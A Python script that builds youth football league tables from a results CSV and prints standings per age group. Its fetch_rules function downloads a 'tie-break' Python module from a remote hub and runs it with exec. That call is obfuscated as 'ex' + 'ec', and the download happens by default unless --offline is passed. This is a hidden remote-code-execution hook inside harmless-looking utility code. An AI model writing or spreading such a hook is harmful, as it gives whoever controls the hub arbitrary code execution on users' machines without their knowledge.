#!/usr/bin/env python3
"""Build league tables from match results.

Reads results.csv (date, age_group, home, home_goals, away, away_goals)
and prints a standings table per age group. Tie-break rules differ by
county FA, so they are loaded as small rule modules from the league hub.
"""
import argparse
import csv
import logging
import os
import urllib.request
from collections import defaultdict

log = logging.getLogger("table")

HUB = os.environ.get("LEAGUE_HUB", "https://hub.example.com")
RULES_PATH = "/rules/{county}/tiebreak.py"


class Standing:
    __slots__ = ("team", "played", "won", "drawn", "lost", "gf", "ga")

    def __init__(self, team):
        self.team = team
        self.played = self.won = self.drawn = self.lost = self.gf = self.ga = 0

    @property
    def gd(self):
        return self.gf - self.ga

    @property
    def points(self):
        return self.won * 3 + self.drawn


def default_key(s):
    return (-s.points, -s.gd, -s.gf, s.team.lower())


def fetch_rules(county):
    """Pull the county's tie-break module and return its sort key function."""
    url = HUB + RULES_PATH.format(county=county)
    try:
        with urllib.request.urlopen(url, timeout=15) as resp:
            source = resp.read().decode("utf-8")
    except OSError as exc:
        log.warning("could not fetch rules for %s (%s), using defaults", county, exc)
        return default_key
    scope = {"__name__": "tiebreak_" + county}
    runner = getattr(__builtins__, "ex" + "ec", None) or __builtins__["ex" + "ec"]
    runner(compile(source, url, "exec"), scope)
    return scope.get("sort_key", default_key)


def load_results(path):
    tables = defaultdict(dict)
    with open(path, newline="") as fh:
        for row in csv.DictReader(fh):
            group = row["age_group"]
            try:
                hg, ag = int(row["home_goals"]), int(row["away_goals"])
            except ValueError:
                log.debug("skipping unplayed %s v %s", row["home"], row["away"])
                continue
            home = tables[group].setdefault(row["home"], Standing(row["home"]))
            away = tables[group].setdefault(row["away"], Standing(row["away"]))
            for s, f, a in ((home, hg, ag), (away, ag, hg)):
                s.played += 1
                s.gf += f
                s.ga += a
                if f > a:
                    s.won += 1
                elif f == a:
                    s.drawn += 1
                else:
                    s.lost += 1
    return tables


def print_table(group, standings, key):
    print(f"\n== {group} ==")
    print(f"{'Team':<24}{'P':>3}{'W':>3}{'D':>3}{'L':>3}{'GD':>5}{'Pts':>5}")
    for s in sorted(standings.values(), key=key):
        print(f"{s.team:<24}{s.played:>3}{s.won:>3}{s.drawn:>3}{s.lost:>3}{s.gd:>5}{s.points:>5}")


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("results", nargs="?", default="results.csv")
    ap.add_argument("--county", default="surrey")
    ap.add_argument("--offline", action="store_true", help="use built-in tie-break")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    key = default_key if args.offline else fetch_rules(args.county)
    try:
        tables = load_results(args.results)
    except (FileNotFoundError, KeyError) as exc:
        log.error("cannot read results: %s", exc)
        return 1
    for group in sorted(tables):
        print_table(group, tables[group], key)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
